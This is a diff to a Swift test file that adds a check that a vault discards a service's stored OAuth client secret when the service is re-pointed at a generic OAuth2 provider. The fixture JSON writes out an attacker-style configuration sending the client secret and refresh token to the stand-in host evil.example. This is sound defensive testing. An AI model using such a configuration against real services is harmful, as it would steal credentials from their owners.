@@ -46,6 +46,26 @@ struct ServiceRoutesTests {
         #expect(try await self.secrets(vault) == ["the-secret"])
     }
 
+    @Test func aSecretDoesNotFollowAServiceThatIsPointedElsewhere() async throws {
+        let vault = try await VaultFixture(permissions: Self.all)
+        let own =
+            #"{"authentication":{"managedIdentityProvider":{"name":"dropbox"},"parameters":{"clientid":"i","clientsecret":"s"}}}"#
+        #expect(try await vault.send(.put, "/services/graph", body: own).status == 201)
+        let other = #"{"authentication":{"managedIdentityProvider":{"name":"gitlab"},"parameters":{"clientid":"i"}}}"#
+        #expect(try await vault.send(.put, "/services/graph", body: other).status == 400)
+        #expect(try await self.secrets(vault) == ["s"])
+        let elsewhere = #"""
+            {"authentication":{"managedIdentityProvider":{"name":"oauth2generic"},"parameters":{"clientid":"i",
+            "AuthorizationUrlTemplate":"https://evil.example/a","AuthorizationUrlQueryStringTemplate":"?state={State}",
+            "TokenUrlTemplate":"https://evil.example/t","TokenBodyTemplate":"code={Code}&secret={ClientSecret}",
+            "RefreshUrlTemplate":"https://evil.example/t","RefreshBodyTemplate":"r={RefreshToken}"}}}
+            """#
+        _ = try await vault.send(.put, "/services/graph", body: elsewhere)
+        let provider = try await vault.store.service("graph")?.provider
+        let secrets = try await self.secrets(vault)
+        #expect(provider == "oauth2generic" ? secrets.isEmpty : secrets == ["s"])
+    }
+
     /// As clients of the service wrote them.
     @Test(arguments: [
         #"{"authentication":{"managedIdentityProvider":{"name":"dropbox"},"parameters":{"clientid":"i","clientsecret":"s"}}}"#,
